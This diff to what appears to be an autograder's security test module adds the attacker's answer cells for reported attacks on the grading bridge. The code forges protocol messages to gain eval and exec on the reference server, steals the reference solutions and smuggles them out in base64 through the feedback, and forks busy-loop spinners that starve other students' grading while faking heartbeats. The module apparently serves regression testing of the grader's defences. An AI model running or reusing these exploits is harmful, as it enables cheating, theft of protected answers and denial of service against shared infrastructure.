@@ -258,3 +258,330 @@ def submissions(assignment: str = "02_decode_scheduling") -> dict[str, nbformat.
         "hector_hogs": examples.filled(assignment, reference | {ids[0]: HOG + reference[ids[0]]}),
         "kim_relays": examples.filled(assignment, {gid: stubs[gid] + RELAY.replace("%(gid)s", gid) for gid in ids}),
     }
+
+
+# --- Attack report #4-#6 (grader/bridge.py): take over the reference server, steal the other TODOs' reference ------
+# The attacker's answer cells, as handed in (built here as the attacker's tools built them): each forges bridge
+# messages that make the server call back with a handle to its own lambda, reads __builtins__ through it, gets eval and
+# exec as handles, reads the server's payload (every other TODO's reference), then swaps payload["driver"] so that each
+# rule's feedback carries a base64 piece of the stolen code.
+PRELUDE = r'''
+import sys as _sys, json as _json, zlib as _zlib, base64 as _b64
+_EXPR = ("next(fr.f_locals['payload']['cells'] for fr, _ in __import__('traceback').walk_stack(__import__('sys')._getframe())"
+         " if isinstance(fr.f_locals.get('payload'), dict) and 'cells' in fr.f_locals['payload'])")
+
+def _rx(B, x):
+    while True:
+        m = B.receive()
+        if m.get("x") == x:
+            return m
+
+def _handles(v, out):
+    if isinstance(v, dict):
+        if isinstance(v.get("h"), int) and v["h"] % 2 == 0:
+            out.append(v["h"])
+        for w in v.values():
+            _handles(w, out)
+    elif isinstance(v, list):
+        for w in v:
+            _handles(w, out)
+    return out
+
+def _attempt(B, target, roots, graph):
+    """One top-level call that makes the server call back into us; inside it, eval on the server."""
+    B.exchange += 2
+    x = B.exchange
+    B.send({"x": x, "op": "call", "target": target, "roots": roots, "graph": graph})
+    m = _rx(B, x)
+    if m["op"] != "call":
+        return None                          # it answered without calling back: try another target
+    hs = _handles(m, [])
+    if not hs:
+        B.send({"x": x, "op": "abort"})
+        return None
+    # 1. the builtins of a server-side function (the lambda it made for our handle), via the "m" getattr
+    B.send({"x": x, "op": "call", "target": "__no_such_export__",
+            "roots": [{"t": [{"m": {"r": hs[0]}, "n": "__builtins__"}]}, {"r": 100001}],
+            "graph": {"100001": {"k": "dict", "s": []}}})
+    m2 = _rx(B, x)
+    ev = None
+    for spec in m2.get("graph", {}).values():
+        if spec.get("k") == "dict" and "v" in spec:
+            for k, v in spec["v"]:
+                if k == "eval" and isinstance(v, dict) and "h" in v:
+                    ev = v["h"]
+    if ev is None:
+        B.send({"x": x, "op": "abort"})
+        return None
+    # 2. eval on the server: its payload, i.e. the reference answers it runs
+    B.send({"x": x, "op": "call", "target": ["h", ev], "roots": [{"t": [_EXPR]}, {"r": 100003}],
+            "graph": {"100003": {"k": "dict", "s": []}}})
+    m3 = _rx(B, x)
+    B.send({"x": x, "op": "abort"})         # unwind the server's reference call; no reply comes
+    if m3.get("op") != "return":
+        return None
+    g = m3["graph"]
+    top = g[str(m3["roots"][2]["r"])]
+    return {g[str(item["r"])]["s"][0]: g[str(item["r"])]["s"][1] for item in top["v"]}
+
+def _steal(attempts):
+    B = globals().get("__bridge__")
+    if B is None:
+        return None
+    for target, roots, graph in attempts:
+        try:
+            got = _attempt(B, target, roots, graph)
+        except Exception as exc:
+            got = None
+        if got:
+            return got
+    return None
+
+def _exfiltrate(stolen, pick, offset=0, width=118):
+    """Replace the observation driver (its source is still in the payload, run after this cell): every
+    scenario of rule r reports chunk r of base64(zlib(json(stolen[pick]))) from `offset`."""
+    frame = _sys._getframe(1)
+    while frame is not None and not isinstance(frame.f_locals.get("payload"), dict):
+        frame = frame.f_back
+    payload = frame.f_locals["payload"]
+    import ast as _ast
+    def _mini(src):
+        try:
+            tree = _ast.parse(src)
+            for node in _ast.walk(tree):
+                body = getattr(node, "body", None)
+                if isinstance(body, list) and body and isinstance(body[0], _ast.Expr) and isinstance(getattr(body[0], "value", None), _ast.Constant) and isinstance(body[0].value.value, str):
+                    body[0] = _ast.Pass()
+            return _ast.unparse(tree)
+        except Exception:
+            return src
+    blob = _b64.b64encode(_zlib.compress(_json.dumps({k: _mini(stolen.get(k) or "") for k in pick}, separators=(",", ":")).encode(), 9)).decode()
+    rules = sorted({int(sc["name"].split("|")[1]) for sc in payload["scenarios"]})
+    chunks = {r: blob[offset + i * width: offset + (i + 1) * width] or "END" for i, r in enumerate(rules)}
+    seq = [chunks[int(sc["name"].split("|")[1])] for sc in payload["scenarios"]]
+    payload["driver"] = "SEQ = %r\nN = [0]\ndef observe(namespace, ops):\n    N[0] += 1\n    return SEQ[N[0] - 1]\n" % (seq,)
+    return len(blob)
+'''
+
+SEGMENTS = r'''
+def _exfiltrate_segments(stolen, segments, width=118):
+    """Like _exfiltrate, for segments [(ref, start, end)] of the per-reference blobs, joined by '.'."""
+    import ast as _ast
+    def _mini(src):
+        try:
+            tree = _ast.parse(src)
+            for node in _ast.walk(tree):
+                body = getattr(node, "body", None)
+                if isinstance(body, list) and body and isinstance(body[0], _ast.Expr) and isinstance(getattr(body[0], "value", None), _ast.Constant) and isinstance(body[0].value.value, str):
+                    body[0] = _ast.Pass()
+            return _ast.unparse(tree)
+        except Exception:
+            return src
+    def blob(k):
+        return _b64.b64encode(_zlib.compress(_json.dumps({k: _mini(stolen.get(k) or "")}, separators=(",", ":")).encode(), 9)).decode()
+    text = ".".join(blob(k)[a:b] for k, a, b in segments)
+    frame = _sys._getframe(1)
+    while frame is not None and not isinstance(frame.f_locals.get("payload"), dict):
+        frame = frame.f_back
+    payload = frame.f_locals["payload"]
+    rules = sorted({int(sc["name"].split("|")[1]) for sc in payload["scenarios"]})
+    chunks = {r: text[i * width: (i + 1) * width] or "END" for i, r in enumerate(rules)}
+    seq = [chunks[int(sc["name"].split("|")[1])] for sc in payload["scenarios"]]
+    payload["driver"] = "SEQ = %r\nN = [0]\ndef observe(namespace, ops):\n    N[0] += 1\n    return SEQ[N[0] - 1]\n" % (seq,)
+'''
+
+SERVER_EXEC = r'''
+def _server_exec(attempts, code):
+    """Run `code` (statements) with exec() in the reference server, and do not wait for it."""
+    B = globals().get("__bridge__")
+    if B is None:
+        return False
+    for target, roots, graph in attempts:
+        B.exchange += 2
+        x = B.exchange
+        B.send({"x": x, "op": "call", "target": target, "roots": roots, "graph": graph})
+        m = _rx(B, x)
+        if m["op"] != "call":
+            continue
+        hs = _handles(m, [])
+        B.send({"x": x, "op": "call", "target": "__no_such_export__",
+                "roots": [{"t": [{"m": {"r": hs[0]}, "n": "__builtins__"}]}, {"r": 100001}],
+                "graph": {"100001": {"k": "dict", "s": []}}})
+        m2 = _rx(B, x)
+        ex = [v["h"] for spec in m2.get("graph", {}).values() if spec.get("k") == "dict" and "v" in spec
+              for k, v in spec["v"] if k == "exec" and isinstance(v, dict) and "h" in v]
+        B.send({"x": x, "op": "call", "target": ["h", ex[0]], "roots": [{"t": [code]}, {"r": 100003}],
+                "graph": {"100003": {"k": "dict", "s": []}}})
+        return True
+    return False
+'''
+
+# 02_decode_scheduling: objects whose instance fields shadow the scheduler's methods with a handle of the child's.
+SIM_02 = lambda extra: {"k": "obj", "c": "__graded__:DecodeSchedulerSim", "v": {
+    "policy": "fixed_priority", "free_kv_blocks": 0, "aging_interval": 4, "clock": 0,
+    "queue": {"r": 3}, "timeline": {"r": 5},
+    "_schedule_key": {"h": 7}, "_ensure_capacity": {"h": 7}, "_effective_priority": {"h": 7},
+    "_remaining_steps": {"h": 7}, "_record_event": {"h": 7}, "cb": {"h": 9}, **extra}}
+REQ_02 = lambda rid, admitted, prio: {"k": "obj", "c": "lab.decode:RequestState", "v": {
+    "request_id": rid, "prompt_len": 2, "max_new_tokens": 3, "generated_len": 1 if admitted else 0,
+    "phase": "decode" if admitted else "prefill", "priority": prio, "cache_hit": False, "wait_steps": 0,
+    "required_blocks": 1, "admitted": admitted, "deadline_step": None, "preemptible": True,
+    "status": "running" if admitted else "waiting", "preemptions": 0, "cb": {"h": 9}}}
+GRAPH_02 = {"1": SIM_02({}), "3": {"k": "list", "v": [{"r": 11}, {"r": 13}]}, "5": {"k": "list", "s": []},
+         "11": REQ_02(1, True, 0), "13": REQ_02(2, False, 5), "15": {"k": "dict", "s": []}}
+ATTEMPTS_02 = [
+    ("DecodeSchedulerSim.step", [{"t": [{"r": 1}]}, {"r": 15}], GRAPH_02),
+    ("DecodeSchedulerSim._schedule_key", [{"t": [{"r": 1}, {"r": 13}]}, {"r": 15}], GRAPH_02),
+    ("DecodeSchedulerSim._ensure_capacity", [{"t": [{"r": 1}, {"r": 13}]}, {"r": 15}], GRAPH_02),
+]
+
+STUBS_02 = {
+"todo1": '''@add_to_class(DecodeSchedulerSim)
+@todo("TODO 1")
+def enqueue(self, request_id: int, prompt_len: int, max_new_tokens: int = 2, priority: int = 0,
+            cache_hit: bool = False, required_blocks: int = 1, deadline_step: int | None = None,
+            preemptible: bool = True) -> None:
+    raise NotImplementedError()
+''',
+"todo2": '''@add_to_class(DecodeSchedulerSim)
+@todo("TODO 2")
+def _schedule_key(self, req):
+    raise NotImplementedError()
+''',
+"todo3": '''@add_to_class(DecodeSchedulerSim)
+@todo("TODO 3")
+def _ensure_capacity(self, challenger):
+    raise NotImplementedError()
+''',
+"todo4": '''@add_to_class(DecodeSchedulerSim)
+@todo("TODO 4")
+def step(self):
+    raise NotImplementedError()
+'''}
+
+
+# 03_batch_scheduling: the same, on Scheduler and BlockManager.
+H = {"h": 7}
+CB = {"h": 9}
+def seq(sid, running):
+    return {"k": "obj", "c": "lab.engine.sequence:Sequence", "v": {
+        "seq_id": sid, "num_prompt_tokens": 10, "max_tokens": 4, "arrival_us": 0, "priority": 0,
+        "status": {"e": "lab.engine.sequence:SequenceStatus", "v": "running" if running else "waiting"},
+        "num_computed_tokens": 10 if running else 0, "num_output_tokens": 1 if running else 0,
+        "block_table": {"r": 41 if running else 43}, "num_preemptions": 0, "num_recomputed_tokens": 0,
+        "first_scheduled_step": None, "first_token_step": None, "finish_step": None, "first_token_us": None,
+        "finish_us": None, "cb": CB}}
+BM = {"k": "obj", "c": "__graded__:BlockManager", "v": {
+    "num_blocks": 6, "block_size": 4, "free_block_ids": {"r": 45},
+    **{name: H for name in ("num_blocks_needed", "can_append", "append", "deallocate", "can_allocate", "allocate")},
+    "cb": CB}}
+SCHED = {"k": "obj", "c": "__graded__:Scheduler", "v": {
+    "block_manager": {"r": 3}, "max_num_seqs": 4, "max_num_batched_tokens": 64, "long_prefill_token_threshold": 0,
+    "policy": "fcfs", "enable_chunked_prefill": True, "waiting": {"r": 21}, "keys": {"r": 23},
+    "running": {"r": 25}, "finished": {"r": 27}, "finished_ids": {"r": 29},
+    **{name: H for name in ("_num_new_tokens", "_make_room", "_preempt", "_waiting_key", "waiting_order",
+                            "_peek_waiting", "_pop_waiting", "_prepend_waiting", "has_unfinished", "add")},
+    "cb": CB}}
+BATCH = {"k": "obj", "c": "lab.engine.scheduler:ScheduledBatch", "v": {
+    "token_budget": 100, "num_scheduled_tokens": {"r": 33}, "num_decode_tokens": 0, "preempted_seq_ids": {"r": 35}}}
+GRAPH_03 = {"1": SCHED, "3": BM, "5": seq(5, True), "11": seq(11, False), "21": {"k": "list", "v": [{"r": 11}]},
+         "23": {"k": "dict", "s": []}, "25": {"k": "list", "v": [{"r": 5}]}, "27": {"k": "list", "s": []},
+         "29": {"k": "set", "v": []}, "33": {"k": "dict", "s": []}, "35": {"k": "list", "s": []},
+         "41": {"k": "list", "s": [0, 1, 2]}, "43": {"k": "list", "s": []},
+         "45": {"k": "deque", "s": [3, 4, 5], "n": None}, "15": {"k": "dict", "s": []}, "17": BATCH}
+KW = {"r": 15}
+ATTEMPTS_03 = [
+    ("BlockManager.can_append", [{"t": [{"r": 3}, {"r": 11}, 4]}, KW], GRAPH_03),
+    ("BlockManager.append", [{"t": [{"r": 3}, {"r": 11}, 4]}, KW], GRAPH_03),
+    ("Scheduler._preempt", [{"t": [{"r": 1}, {"r": 5}, {"r": 17}]}, KW], GRAPH_03),
+    ("Scheduler._make_room", [{"t": [{"r": 1}, {"r": 5}, 1, {"r": 17}]}, KW], GRAPH_03),
+    ("Scheduler.schedule", [{"t": [{"r": 1}]}, KW], GRAPH_03),
+]
+
+STUBS_03 = {
+"todo1": '''@add_to_class(Scheduler)
+@todo("TODO 1")
+def schedule(self) -> ScheduledBatch:
+    raise NotImplementedError()
+''',
+"todo2": '''@add_to_class(BlockManager)
+@todo("TODO 2")
+def num_blocks_needed(self, seq, num_new_tokens):
+    raise NotImplementedError()
+''',
+"todo3": '''@add_to_class(Scheduler)
+@todo("TODO 3")
+def _make_room(self, seq, num_new_tokens, batch):
+    raise NotImplementedError()
+''',
+"todo4": '''@todo("TODO 4")
+def percentile(values, q):
+    raise NotImplementedError()
+''',
+"todo5": '''@todo("TODO 5")
+def slo_key(request):
+    raise NotImplementedError()
+'''}
+
+
+EXFIL_PLAN_02 = {"todo1": ["todo2"], "todo2": ["todo3"], "todo3": ["todo4"], "todo4": ["todo1"]}
+EXFIL_PLAN_03 = {"todo1": [("todo2", 0, None), ("todo5", 0, None)], "todo3": [("todo4", 0, 944)],
+                 "todo2": [("todo4", 944, None), ("todo3", 0, 549)], "todo4": [("todo3", 549, None), ("todo1", 0, 420)],
+                 "todo5": [("todo1", 420, None)]}
+
+# Attack #6: with the takeover, fork busy loops in the reference server (each in a session of its own), so that
+# another student's child, graded beside it, runs out of wall time; SERVER_HOG is the attacker's file.
+SERVER_HOG = '''
+import os, time
+for _ in range(200):
+    if os.fork() == 0:
+        os.setsid()
+        while True:
+            pass
+time.sleep(118)     # the server's main process stays: its spinners live until the 120 s wall limit
+'''
+
+# The same from the child's own side: spinners, and blank lines on the result pipe to look like progress.
+CHILD_HOG = r'''
+import os as _os, signal as _signal, sys as _sys, threading as _threading, time as _time
+if "__bridge__" in globals():            # only inside a grading child, never in the student's own kernel
+    _signal.setitimer(_signal.ITIMER_PROF, 0)
+    _signal.signal(_signal.SIGPROF, _signal.SIG_IGN)
+    _f = _sys._getframe()
+    while _f is not None and "emit" not in _f.f_locals:
+        _f = _f.f_back
+    _fd = _f.f_locals["emit"].__closure__[0].cell_contents.fileno()   # the result pipe
+    for _ in range(240):
+        if _os.fork() == 0:
+            _os.setsid()
+            while True:
+                pass
+    def _beat():                          # a blank line: "progress" for the watchdog, ignored by the protocol
+        while True:
+            _os.write(_fd, b"\n")
+            _time.sleep(0.5)
+    _threading.Thread(target=_beat, daemon=True).start()
+    _time.sleep(112)
+'''
+
+
+def rce_exfil_answers(assignment: str) -> dict[str, str]:
+    """The answer cells of the attacker's rce_exfil notebook (attack-subs/<assignment>/rce_exfil.ipynb)."""
+    if assignment == "02_decode_scheduling":
+        return {gid: STUBS_02[gid] + PRELUDE + f"\n_ATTEMPTS = {ATTEMPTS_02!r}\n"
+                f"_stolen = _steal(_ATTEMPTS)\nif _stolen:\n    _exfiltrate(_stolen, {pick!r}, 0)\n"
+                for gid, pick in EXFIL_PLAN_02.items()}
+    return {gid: STUBS_03[gid] + PRELUDE + SEGMENTS + f"\n_ATTEMPTS = {ATTEMPTS_03!r}\n"
+            f"_stolen = _steal(_ATTEMPTS)\nif _stolen:\n    _exfiltrate_segments(_stolen, {plan!r})\n"
+            for gid, plan in EXFIL_PLAN_03.items()}
+
+
+def server_hog_answers() -> dict[str, str]:
+    """The answer cells of attack-subs/02_decode_scheduling_dos/attacker_hog.ipynb."""
+    return {gid: STUBS_02[gid] + PRELUDE + SEGMENTS + SERVER_EXEC + f"\n_ATTEMPTS = {ATTEMPTS_02!r}\n_server_exec(_ATTEMPTS, {SERVER_HOG!r})\n"
+            for gid in STUBS_02}
+
+
+def child_hog_answers() -> dict[str, str]:
+    """Spinners and blank-line heartbeats from the grading child itself (the attacker's first version of #6)."""
+    return {gid: STUBS_02[gid] + CHILD_HOG for gid in STUBS_02}
